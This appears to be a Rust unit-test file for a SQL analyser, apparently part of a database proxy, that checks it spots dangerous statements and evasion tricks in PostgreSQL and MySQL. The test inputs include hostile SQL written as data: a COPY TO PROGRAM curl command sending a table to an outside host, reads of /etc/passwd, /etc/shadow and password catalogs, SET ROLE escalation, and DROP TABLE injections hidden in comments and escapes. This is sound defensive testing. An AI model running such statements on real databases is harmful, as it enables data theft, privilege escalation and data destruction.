//! The SQL analyser's unit tests (both dialects, both PostgreSQL frontends).

use super::*;

fn pg(s: &str) -> Vec<Statement> {
    analyze(s, Dialect::Postgres).expect("tokenizes")
}

#[test]
fn kinds_and_relations() {
    let s = pg("SELECT u.id FROM public.users u JOIN orders o ON o.uid = u.id WHERE pg_catalog.now() > o.t");
    assert_eq!(
        (s[0].kind, s[0].reads.clone()),
        (Kind::Select, vec!["orders".to_string(), "public.users".to_string()])
    );
    assert_eq!(s[0].functions, ["pg_catalog.now"]);
    let s = pg(
        "insert into audit(id) select id from users; update accounts set balance = 0; delete from sessions where age > 3",
    );
    assert_eq!(
        (s[0].kind, s[0].writes.clone(), s[0].reads.clone()),
        (Kind::Insert, vec!["audit".to_string()], vec!["users".to_string()])
    );
    assert_eq!(
        (s[1].kind, s[1].writes.clone(), s[1].has_where),
        (Kind::Update, vec!["accounts".to_string()], false)
    );
    assert_eq!(
        (s[2].kind, s[2].writes.clone(), s[2].has_where),
        (Kind::Delete, vec!["sessions".to_string()], true)
    );
    assert_eq!(pg("select * from pg_shadow")[0].reads, ["pg_shadow"]);
    assert_eq!(pg("TRUNCATE TABLE logs")[0].writes, ["logs"]);
    assert_eq!(pg("drop table if exists \"Users\"")[0].writes, ["Users"]);
    assert_eq!(pg("ALTER USER app WITH PASSWORD 'x'")[0].kind, Kind::Role);
    assert_eq!(pg("grant all on x to y")[0].kind, Kind::Grant);
    assert_eq!(pg("begin")[0].kind, Kind::Transaction);
    assert_eq!(pg("SET search_path = x")[0].kind, Kind::Set);
    assert!(!pg("vacuum full")[0].certain);
}

#[test]
fn evasion_resistance() {
    let s = pg("SeLeCt 1; /* a /* nested */ comment */ DrOp\n\tTABLE --x\n users");
    assert_eq!(
        (s.len(), s[1].kind, s[1].writes.clone()),
        (2, Kind::Drop, vec!["users".to_string()])
    );
    let s = pg("select 'DROP TABLE users; --', $$ DELETE FROM x $$, E'\\' ; drop table y'");
    assert_eq!(s.len(), 1, "text inside literals is data: {s:?}");
    assert_eq!(s[0].kind, Kind::Select);
    let s = pg("select * from \"pg_shadow\"");
    assert_eq!(s[0].reads, ["pg_shadow"]);
    assert!(analyze("select 'open", Dialect::Postgres).is_err());
    assert!(analyze("select /* open", Dialect::Postgres).is_err());
}

#[test]
fn copy_do_execute_and_ctes() {
    let s = pg("COPY users TO PROGRAM 'curl -d @- http://x'");
    assert_eq!(
        (s[0].kind, s[0].copy_target.clone(), s[0].copy_from),
        (
            Kind::Copy,
            Some(CopyTarget::Program("curl -d @- http://x".into())),
            false
        )
    );
    assert_eq!(s[0].reads, ["users"]);
    let s = pg("copy t from '/etc/passwd'");
    assert_eq!(
        (s[0].copy_target.clone(), s[0].copy_from, s[0].writes.clone()),
        (
            Some(CopyTarget::File("/etc/passwd".into())),
            true,
            vec!["t".to_string()]
        )
    );
    assert_eq!(pg("copy t to stdout")[0].copy_target, Some(CopyTarget::Client));
    let s = pg("DO $body$ BEGIN DROP TABLE users; END $body$");
    assert_eq!(s[0].kind, Kind::Do);
    assert!(
        s[0].nested
            .iter()
            .any(|n| n.kind == Kind::Drop && n.writes == ["users"]),
        "{:?}",
        s[0].nested
    );
    let s = pg("DO $$ BEGIN EXECUTE 'truncate audit'; END $$");
    assert!(s[0].nested.iter().any(|n| n.kind == Kind::Truncate), "{s:?}");
    assert!(!pg("EXECUTE stmt1")[0].certain);
    let s = pg("DO $$ BEGIN EXECUTE 'DROP TABLE ' || t; END $$");
    assert!(!s[0].certain, "{s:?}");
    let s = pg("WITH gone AS (DELETE FROM users RETURNING *) SELECT count(*) FROM gone");
    assert!(s[0].writable_cte);
    assert_eq!(s[0].kind, Kind::Select);
    let s = pg("EXPLAIN ANALYZE DELETE FROM users");
    assert_eq!((s[0].kind, s[0].nested[0].kind), (Kind::Explain, Kind::Delete));
}

#[test]
fn mysql_dialect() {
    let s = analyze(
        "select `password` from mysql.user # comment\n; /*!50000 DROP TABLE t */",
        Dialect::MySql,
    )
    .expect("ok");
    assert_eq!(s[0].reads, ["mysql.user"]);
    assert_eq!((s[1].kind, s[1].writes.clone()), (Kind::Drop, vec!["t".to_string()]));
    let s = analyze("select \"a;b\", 'it\\'s; drop table x'", Dialect::MySql).expect("ok");
    assert_eq!(s.len(), 1);
    let s = analyze("LOAD DATA INFILE '/etc/shadow' INTO TABLE t", Dialect::MySql).expect("ok");
    assert_eq!(
        (s[0].kind, s[0].copy_target.clone()),
        (Kind::Copy, Some(CopyTarget::File("/etc/shadow".into())))
    );
}

#[test]
fn arbitrary_input_never_panics() {
    let alphabet: &[&str] = &[
        "select", "drop", "from", "$$", "$a$", "'", "\"", "`", "/*", "*/", "--", "\n", ";", "(", ")", "e'", "\\", "x",
        " ", ".", "do", "execute", "copy", "with", "#", "/*!",
    ];
    let mut seed = 0x0123_4567_89AB_CDEFu64;
    for _ in 0..20_000 {
        let mut v = String::new();
        for _ in 0..(seed % 16) {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            v.push_str(alphabet[(seed >> 33) as usize % alphabet.len()]);
        }
        seed = seed.wrapping_add(1);
        let _ = analyze(&v, Dialect::Postgres);
        let _ = analyze(&v, Dialect::MySql);
    }
}

/// Every statement and nested statement, flattened.
fn all(stmts: &[Statement]) -> Vec<&Statement> {
    let mut out = Vec::new();
    let mut stack: Vec<&Statement> = stmts.iter().collect();
    while let Some(s) = stack.pop() {
        out.push(s);
        stack.extend(s.nested.iter());
    }
    out
}

fn pg_in(s: &str, lx: &Lexing) -> Vec<Statement> {
    analyze_in(s, Dialect::Postgres, lx).expect("parses")
}

#[test]
fn forms_the_token_scan_missed() {
    let reads = |q: &str| all(&pg(q)).iter().flat_map(|s| s.reads.clone()).collect::<Vec<_>>();
    let funcs = |q: &str| all(&pg(q)).iter().flat_map(|s| s.functions.clone()).collect::<Vec<_>>();
    for q in [
        "TABLE pg_authid",
        "(TABLE pg_authid)",
        "select 1 from users u, pg_authid a",
        "select * from users, lateral (select * from pg_authid) x",
        "select (select rolpassword from pg_catalog.pg_authid limit 1)",
        "select * from U&\"pg_\\0061uthid\"",
        "select * from \"pg_authid\"",
        "select query_to_xml('select * from pg_authid', true, true, '')",
        "select table_to_xml('pg_authid', true, true, '')",
        "select table_to_xml('pg_authid'::regclass, true, true, '')",
        "copy (select * from pg_authid) to stdout",
        "with x as (select * from pg_authid) select * from x",
    ] {
        let r = reads(q);
        assert!(r.iter().any(|n| n.ends_with("pg_authid")), "{q}: {r:?}");
    }
    for q in [
        "select \"pg_read_file\"('/etc/passwd')",
        "select pg_catalog.pg_read_file('/etc/passwd')",
        "select \"pg_catalog\".\"pg_read_file\"('/etc/passwd')",
        "select * from pg_read_file('/etc/passwd')",
        "create operator <<>> (procedure = pg_read_file, leftarg = text)",
        "create function f(text) returns text language internal as 'pg_read_file_v2'",
        "create function f(text) returns text language c as '$libdir/x', 'pg_read_file_v2'",
        "create function f() returns text language sql as $$ select pg_read_file('/etc/passwd') $$",
        "create function f() returns text language sql begin atomic select pg_read_file('/etc/passwd'); end",
        "create function f() returns void language plpgsql as $$ begin perform pg_read_file('/x'); end $$",
        "do $$ begin execute 'select pg_read_file(''/etc/passwd'')'; end $$",
        "do $$ begin execute E'select pg_read_file(\\'/etc/passwd\\')'; end $$",
    ] {
        let f = funcs(q);
        assert!(f.iter().any(|n| n.contains("pg_read_file")), "{q}: {f:?}");
    }
    // A user-made operator is a function call this analysis cannot see.
    assert!(!pg("select 'a' <<>> 'b'")[0].certain);
    assert!(pg("select 1 + 2, 'a' || 'b', x ~~ 'y%' from t")[0].certain);
    // Escapes are decoded before the EXECUTE string is analysed.
    let s = pg("do $$ begin execute E'SELECT 1\\x3b DROP TABLE t'; end $$");
    assert!(all(&s).iter().any(|n| n.kind == Kind::Drop), "{s:?}");
    // A data-modifying CTE and a rule's actions are statements of their own.
    let s = pg("with x as (delete from users returning *) select (select count(*) from x)");
    assert!(all(&s).iter().any(|n| n.kind == Kind::Delete && !n.has_where), "{s:?}");
    let s = pg("create rule r as on select to t do instead delete from users");
    assert!(all(&s).iter().any(|n| n.kind == Kind::Delete), "{s:?}");
    let s = pg("create trigger t before insert on x for each row execute function evil()");
    assert!(s[0].functions.contains(&"evil".to_string()), "{s:?}");
    // WHERE: only the statement's own, and only when it names a column.
    for q in [
        "delete from t where true",
        "delete from t where 1 = 1",
        "delete from t where exists (select 1 from u where u.id = 1)",
        "update t set a = 1 where now() > '2000-01-01'",
        "with x as (select 1 where true) delete from t",
        "update t set a = (select 1 from u where u.id = 2)",
    ] {
        assert!(!pg(q)[0].has_where, "{q}");
    }
    assert!(pg("delete from t where id = 4")[0].has_where);
    // Languages: C and internal are named; others are not read.
    assert_eq!(
        pg("create function f() returns int language c as 'x', 'y'")[0].languages,
        ["c"]
    );
    assert!(!pg("create function f() returns int language plpython3u as 'import os'")[0].certain);
    assert!(!pg("do language plperlu $$ system('id') $$")[0].certain);
    // COPY target from the tree.
    let s = pg("copy (select 1) to program 'id'");
    assert_eq!(s[0].copy_target, Some(CopyTarget::Program("id".into())));
}

#[test]
fn role_changes_in_every_spelling() {
    for q in [
        "SET ROLE postgres",
        "SET LOCAL ROLE postgres",
        "SET SESSION ROLE postgres",
        "SET \"role\" = 'postgres'",
        "SET role TO postgres",
        "RESET ROLE",
        "SET SESSION AUTHORIZATION postgres",
        "select set_config('role', 'postgres', false)",
        "select pg_catalog.set_config('ROLE', 'postgres', true)",
        "create function f() returns int language sql set role = postgres as 'select 1'",
    ] {
        let s = pg(q);
        assert!(all(&s).iter().any(|n| n.kind == Kind::Role), "{q}: {s:?}");
    }
    assert!(!pg("select set_config(current_user, 'x', false)")[0].certain);
}

#[test]
fn lexing_follows_the_session() {
    let off = Lexing {
        standard_conforming_strings: false,
        ..Lexing::default()
    };
    let q = "SELECT 'a\\' b '; DROP TABLE t; -- '";
    // Standard strings: one string with a backslash, and no DROP (the grammar finds the rest is
    // not valid SQL, and the server refuses it too).
    assert!(analyze(q, Dialect::Postgres).map_or(true, |s| s.iter().all(|n| n.kind != Kind::Drop)));
    // Backslash escapes: a SELECT, then a DROP.
    let s = pg_in(q, &off);
    assert!(s.iter().any(|n| n.kind == Kind::Drop), "{s:?}");
    // A statement after a change of lexing settings in the same string is not certain.
    for q in [
        "SET standard_conforming_strings = off; SELECT 1",
        "select set_config('standard_conforming_strings', 'off', false); select 1",
        "SET client_encoding = 'SJIS'; SELECT 1",
        "SET NAMES 'GBK'; SELECT 1",
        "RESET ALL; SELECT 1",
    ] {
        let s = pg(q);
        assert!(s[0].certain && !s[1].certain, "{q}: {s:?}");
    }
}

#[test]
fn mysql_bodies_prepare_and_outfile() {
    let my = |q: &str| analyze(q, Dialect::MySql).expect("tokenizes");
    for (q, kind) in [
        ("CREATE PROCEDURE p() BEGIN DROP TABLE t; END", Kind::Drop),
        ("CREATE DEFINER = root@localhost PROCEDURE p() DROP TABLE t", Kind::Drop),
        ("CREATE EVENT e ON SCHEDULE EVERY 1 DAY DO DELETE FROM t", Kind::Delete),
        (
            "CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW DELETE FROM x",
            Kind::Delete,
        ),
        (
            "CREATE FUNCTION f() RETURNS INT BEGIN TRUNCATE t; RETURN 1; END",
            Kind::Truncate,
        ),
        ("PREPARE s FROM 'DROP TABLE t'", Kind::Drop),
    ] {
        let s = my(q);
        assert!(all(&s).iter().any(|n| n.kind == kind), "{q}: {s:?}");
    }
    assert!(!my("PREPARE s FROM @q")[0].certain);
    let s = my("SELECT * FROM t INTO OUTFILE '/tmp/x'");
    assert_eq!(s[0].copy_target, Some(CopyTarget::File("/tmp/x".into())));
    // `--` before a non-space is not a comment; `/*M!` is executed.
    assert_eq!(my("SELECT 1--1; DROP TABLE t").len(), 2);
    assert!(
        my("SELECT 1 /*M!100000 ; DROP TABLE t */")
            .iter()
            .any(|n| n.kind == Kind::Drop)
    );
    let s = my("SET STATEMENT max_statement_time = 1 FOR DROP TABLE t");
    assert!(all(&s).iter().any(|n| n.kind == Kind::Drop), "{s:?}");
    // sql_mode and foreign character sets change lexing; utf8mb4 does not.
    assert_eq!(my("SET @@session.sql_mode = 'ANSI_QUOTES'")[0].sets, ["sql_mode"]);
    assert_eq!(my("SET NAMES gbk")[0].sets, ["client_encoding"]);
    assert_eq!(my("SET NAMES utf8mb4")[0].sets, ["names"]);
    let ansi = Lexing {
        ansi_quotes: true,
        backslash_escapes: false,
        ..Lexing::default()
    };
    let s = analyze_in("SELECT \"a\\\" FROM t; DROP TABLE x", Dialect::MySql, &ansi).expect("ok");
    assert!(s.iter().any(|n| n.kind == Kind::Drop), "{s:?}");
}

#[test]
fn computations_on_columns() {
    let c = |q: &str| all(&pg(q)).iter().flat_map(|s| s.computed.clone()).collect::<Vec<_>>();
    // Read bare: nothing computed.
    assert!(c("SELECT key, k.owner, k.*, * FROM api_keys k").is_empty());
    assert_eq!(c("SELECT key FROM api_keys WHERE id = 1"), ["api_keys.id"]);
    for (q, col) in [
        ("SELECT reverse(key) FROM api_keys", "api_keys.key"),
        (
            "SELECT substr(k.key, 1, 4) FROM public.api_keys k",
            "public.api_keys.key",
        ),
        ("SELECT key::bytea FROM api_keys", "api_keys.key"),
        ("SELECT id FROM api_keys WHERE key LIKE 'sk_live_a%'", "api_keys.key"),
        ("SELECT 1 FROM api_keys a JOIN t ON t.x = a.key", "api_keys.key"),
        ("SELECT key FROM api_keys ORDER BY key", "api_keys.key"),
        ("SELECT key FROM api_keys ORDER BY 1", "api_keys.key"),
        ("SELECT DISTINCT key FROM api_keys", "api_keys.key"),
        ("SELECT key FROM api_keys UNION SELECT 'x'", "api_keys.key"),
        ("SELECT max(key) FROM api_keys", "api_keys.key"),
        ("SELECT row_to_json(k) FROM api_keys k", "api_keys.*"),
        ("SELECT k FROM api_keys k", "api_keys.*"),
        ("SELECT x FROM (SELECT key AS x FROM api_keys) s", "api_keys.key"),
        ("WITH s AS (SELECT key FROM api_keys) SELECT * FROM s", "api_keys.key"),
        ("INSERT INTO mine SELECT key FROM api_keys", "api_keys.key"),
        ("UPDATE t SET a = k.key FROM api_keys k", "api_keys.key"),
        ("SELECT (SELECT key FROM api_keys LIMIT 1)", "api_keys.key"),
        ("DO $$ BEGIN PERFORM key FROM api_keys; END $$", "api_keys.key"),
    ] {
        let got = c(q);
        assert!(got.iter().any(|x| x == col), "{q}: {got:?}");
    }
}

#[test]
fn plpgsql_the_parser_cannot_read_is_not_certain() {
    // libpg_query's PL/pgSQL parser emits invalid JSON for trigger functions (pg_query 18.1):
    // such a body is not analysed, so it is not certain.
    let s = pg("CREATE FUNCTION t() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN DELETE FROM x; RETURN NEW; END $$");
    assert!(!s[0].certain, "{s:?}");
}

#[test]
fn plpgsql_bodies_are_read() {
    let s = pg(
        "CREATE FUNCTION audit_touch(k int) RETURNS int LANGUAGE plpgsql AS $$ BEGIN UPDATE audit SET touched = now() WHERE id = k; RETURN k; END $$",
    );
    assert!(s[0].certain, "{s:?}");
    assert!(
        s[0].nested.iter().any(|n| n.kind == Kind::Update && n.has_where),
        "{s:?}"
    );
}

#[test]
fn deep_nesting_is_refused_not_a_crash() {
    // On a thread with a small stack, as a proxy's worker threads have.
    let h = std::thread::Builder::new()
        .stack_size(512 * 1024)
        .spawn(|| {
            for n in [100, 1_000, 10_000, 100_000] {
                for q in [
                    format!("SELECT {}1{}", "(".repeat(n), ")".repeat(n)),
                    format!("SELECT {}1{}", "f(".repeat(n), ")".repeat(n)),
                    format!("SELECT {}1{}", "(SELECT ".repeat(n), ")".repeat(n)),
                    format!("SELECT {}", "- ".repeat(n) + "1"),
                    format!("SELECT 1 {}", "+ 1 ".repeat(n)),
                ] {
                    let _ = analyze_with(&q, &Lexing::default(), Frontend::Grammar);
                    let _ = analyze(&q, Dialect::Postgres);
                }
            }
        })
        .expect("spawns");
    h.join().expect("no panic");
}
